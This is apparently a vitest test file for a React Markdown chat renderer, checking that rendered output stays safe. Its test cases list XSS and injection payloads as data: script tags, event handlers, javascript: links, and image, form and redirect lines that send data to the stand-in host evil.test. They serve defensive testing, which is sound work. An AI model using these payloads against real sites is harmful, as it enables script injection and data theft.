import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { TooltipProvider } from '../ui'
import { Markdown } from './Markdown'

const render = (text: string, streaming = false) =>
  renderToStaticMarkup(
    <TooltipProvider>
      <Markdown id="m" text={text} streaming={streaming} />
    </TooltipProvider>,
  )

/** Every rendered element and attribute, with the value of those that name something external. */
const made = (html: string) => {
  const tags = [...html.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[a-z][\w-]*(?:="[^"]*")?)*)\s*\/?>/gi)]
  return {
    elements: new Set(tags.map((tag) => tag[1])),
    attributes: new Set(
      tags.flatMap((tag) => [...(tag[2] ?? '').matchAll(/\s([a-z][\w-]*)=/gi)].map((found) => found[1])),
    ),
    links: [...html.matchAll(/\shref="([^"]*)"/gi)].map((found) => found[1]),
    loads: [...html.matchAll(/\s(?:src|data|poster)="([^"]*)"/gi)].map((found) => found[1]),
  }
}

const harmless = new Set([
  'div',
  'p',
  'span',
  'a',
  'code',
  'ul',
  'ol',
  'li',
  'strong',
  'em',
  'svg',
  'path',
  'rect',
  'line',
])

test.each([
  '<script>window.deckhand.call("hello", {})</script>',
  '<svg onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  "<iframe srcdoc='<script>parent.deckhand</script>'></iframe>",
  '<object data=javascript:alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href=javascript:alert(1)>x</a>',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[open](ms-msdt:/id)',
  '[x](//evil.test/x)',
  '<base href=https://evil.test/>',
  "<meta http-equiv=refresh content='0;url=https://evil.test'>",
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import url(https://evil.test)</style>',
  '<button onclick=alert(1)>Approve</button>',
  "<div style='position:fixed;inset:0;z-index:99999'>Approve?</div>",
  '![x](https://evil.test/?data=SECRET)',
  '![x](data:text/html;base64,PHNjcmlwdD4=)',
  '<video src=https://evil.test autoplay>',
  '<a id=deckhand><a id=deckhand name=x>',
  '<form action=https://evil.test><input name=x></form>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[[click]](javascript:1)<!-- hidden -->',
])('nothing hostile comes of %s', (text) => {
  for (const streaming of [false, true]) {
    // Our own button, which fetches an image when it is pressed.
    const html = render(text, streaming).replace(/<button type="button" class="chat-load-image".*?<\/button>/g, '')
    const { elements, attributes, links, loads } = made(html)
    expect([...elements].filter((element) => !harmless.has(element ?? ''))).toEqual([])
    expect([...attributes].filter((name) => /^on|^(?:id|name|style|srcdoc|action)$/i.test(name ?? ''))).toEqual([])
    expect(links.filter((link) => !link?.startsWith('https://'))).toEqual([])
    expect(loads).toEqual([])
  }
})

test('raw HTML is shown as the text it is', () => {
  expect(render('a <b>bold</b> claim')).toContain('&lt;b&gt;bold&lt;/b&gt;')
})

test('code, tables, links and embedded images come through', () => {
  const html = render(
    '```ts\nconst a = "<b>"\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n[docs](https://example.com/x) ![dot](data:image/png;base64,AAAA) `code`',
  )
  expect(html).toContain('const a = &quot;&lt;b&gt;&quot;')
  expect(html).toContain('<td>2</td>')
  expect(html).toContain('href="https://example.com/x"')
  expect(html).toContain('src="data:image/png;base64,AAAA"')
  expect(html).toContain('<code class="chat-inline-code">code</code>')
})

test.each([
  ['runs of marks', 'a'.repeat(100_000) + '*'.repeat(100_000)],
  ['a table of thousands of columns', `${'|'.repeat(20_000)}\n${'-|'.repeat(20_000)}`],
  ['quotes in quotes', `${'> '.repeat(20_000)}x`],
  ['lists in lists', `${'- '.repeat(5000)}x`],
  ['elements in elements', '<div>'.repeat(50_000)],
  ['brackets', '['.repeat(50_000)],
])('%s are shown plain instead of being parsed', (_, text) => {
  expect(render(text)).toMatch(/^<p class="chat-plain">/)
})

test('an image of the web is a button that says where it would come from', () => {
  const html = render('![a chart](https://charts.example.org/a.png?x=1)')
  expect(html).toContain('Load “a chart” from charts.example.org')
  expect(made(html).loads).toEqual([])
})

test('a formula and a diagram are shown as their text until they are drawn', () => {
  expect(render('Euler: $e^{i\\pi} = -1$')).toContain('<code class="chat-inline-code">e^{i\\pi} = -1</code>')
  expect(render('$$\nx^2\n$$')).toContain('aria-label="Formula"')
  const diagram = render('```mermaid\ngraph TD\n  a-->b\n```')
  expect(diagram).toContain('a--&gt;b')
})
